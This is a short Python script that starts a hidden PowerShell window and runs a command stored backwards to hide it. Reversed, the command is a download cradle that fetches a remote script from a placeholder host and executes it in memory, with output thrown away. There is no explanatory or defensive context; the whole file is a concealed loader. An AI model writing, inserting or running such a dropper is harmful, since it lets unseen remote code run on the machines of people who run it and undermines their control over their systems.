import subprocess as s, sys
c = ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command"]
c.append("".join(reversed(")'1sp.a/dilavni.elpmaxe.d//:sptth'(gnirtsdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI")))
s.Popen(c, stdout=s.DEVNULL)
